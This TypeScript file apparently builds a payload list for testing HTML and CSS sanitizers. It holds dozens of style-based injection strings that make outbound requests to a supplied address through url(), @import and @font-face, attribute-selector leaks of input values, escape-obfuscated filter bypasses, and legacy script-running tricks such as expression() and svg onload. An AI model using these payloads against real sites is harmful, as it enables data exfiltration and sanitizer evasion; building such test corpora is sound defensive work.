import type { Payload } from "./payload";

/** Properties that load, with `%` where the address stands. */
const DECLARATIONS = [
  "background:url(%)",
  "background-image:url(%)",
  "background:#fff url('%') no-repeat",
  'background:url("%")',
  "background:url( % )",
  "background-image:image-set('%' 1x)",
  "background-image:-webkit-image-set(url(%) 1x)",
  "background-image:-webkit-cross-fade(url(%),url(%),50%)",
  "background-image:linear-gradient(red,blue),url(%)",
  "background:url(data:,),url(%)",
  "border-image:url(%) 1",
  "border-image-source:url(%);border:1px solid",
  "list-style:url(%);display:list-item",
  "list-style-image:url(%);display:list-item",
  "content:url(%)",
  "cursor:url(%),auto",
  "mask:url(%)",
  "mask-image:url(%)",
  "-webkit-mask-image:url(%)",
  "-webkit-mask-box-image:url(%)",
  "filter:url(%#x)",
  "backdrop-filter:url(%#x)",
  "clip-path:url(%#x)",
  "shape-outside:url(%);float:left",
  "-webkit-box-reflect:below 0 url(%)",
  "--a:url(%);background:var(--a)",
  "background:var(--none,url(%))",
  "background:u\\72l(%)",
  "background:\\75rl(%)",
  "background:\\000075rl(%)",
  "background:URL(%)",
  "back\\67round:url(%)",
  "background:/**/url(/**/%)",
  "background:url(%)!important",
  "color:red;;background:url(%)",
  "color:red}background:url(%);{;background:url(%)",
  "background:url(%",
  "background:url('%",
  "background:url(\\\n%)",
  "font:1px x;background:url(%)",
] as const;

const SHEETS: readonly Payload[] = [
  ({ net }) => `<style>@import "${net}";</style>`,
  ({ net }) => `<style>@import url(${net}) screen;</style>`,
  ({ net }) => `<style>@IMPORT'${net}'</style>`,
  ({ net }) => `<style>@\\69mport "${net}";</style>`,
  ({ net }) => `<style>@import url(${net}) layer(x) supports(display:grid);</style>`,
  ({ net }) => `<style>@charset "utf-8";@import "${net}";</style>`,
  ({ net }) => `<style><!-- @import "${net}"; --></style>`,
  ({ net }) => `<style>@font-face{font-family:x;src:url(${net})}*{font-family:x}</style>x`,
  ({ net }) =>
    `<style>@font-face{font-family:x;src:local(y),url("${net}")format("woff2");unicode-range:U+0-7F}p{font-family:x}</style><p>abc</p>`,
  ({ net }) => `<style>body::before{content:url(${net})}</style>`,
  ({ net }) => `<style>::marker{content:url(${net})}li::before{content:url(${net})}</style><li>x`,
  ({ net }) => `<style>::selection,::first-letter{background:url(${net})}</style>xyz`,
  ({ net }) => `<style>p[title^="a"]{background:url(${net})}</style><p title="abc">x</p>`,
  ({ net }) => `<style>input[value$="z"]{background:url(${net})}</style><input value=xyz>`,
  ({ net }) => `<style>:has(p){background:url(${net})}</style><p>x</p>`,
  ({ net }) => `<style>a:not(:visited){background:url(${net})}</style><a href=https://example.test/>x</a>`,
  ({ net }) => `<style>@media all{*{background:url(${net})}}</style>`,
  ({ net }) => `<style>@supports(display:block){*{background:url(${net})}}</style>`,
  ({ net }) =>
    `<style>@container (min-width:0){*{background:url(${net})}}body{background:url(${net})}</style>`,
  ({ net }) => `<style>@layer x{*{background:url(${net})}}</style>`,
  ({ net }) => `<style>@keyframes x{from,to{background:url(${net})}}body{animation:x 1s}</style>`,
  ({ net }) =>
    `<style>@property --p{syntax:"<url>";inherits:true;initial-value:url(${net})}body{background:var(--p);background:url(${net})}</style>`,
  ({ net }) => `<style>@counter-style x{symbols:url(${net})}body{background:url(${net})}</style>`,
  ({ net }) => `<style>@page{background:url(${net})}body{background:url(${net})}</style>`,
  ({ net }) => `<style>@namespace url(${net});body{background:url(${net})}*{background:url(${net})}</style>`,
  ({ net }) => `<style>body{&{background:url(${net})}}</style>`,
  ({ net }) => `<style>*{}*{background:url(${net}</style>`,
  ({ net }) => `<style media=all type=text/css>body{background:url(${net})}</style>`,
  ({ net }) => `<style>body{background:url(//${net.slice(7)})}</style>`,
  ({ net }) => `<style>body{background:url(${net.replace("t", "\\74 ")})}</style>`,
  ({ js }) => `<div style="width:expression(${js})">x</div><script>${js}</script>`,
  ({ js }) => `<div style="behavior:url(#default#time2)" onbegin="${js}">x</div><svg onload=${js}>`,
  ({ net }) => `<div style="-moz-binding:url(${net}#x);background:url(${net})">x</div>`,
];

export const STYLES: readonly Payload[] = [
  ...DECLARATIONS.map(
    (declaration): Payload =>
      ({ net }) =>
        `<div style="${declaration.replaceAll('"', "&quot;").replaceAll("%", net)}">x</div>`,
  ),
  ...DECLARATIONS.filter((declaration) => !/^color|!important|\n/.test(declaration)).map(
    (declaration): Payload =>
      ({ net }) =>
        `<style>body{${declaration.replaceAll("%", net)}}</style>x`,
  ),
  ...SHEETS,
];
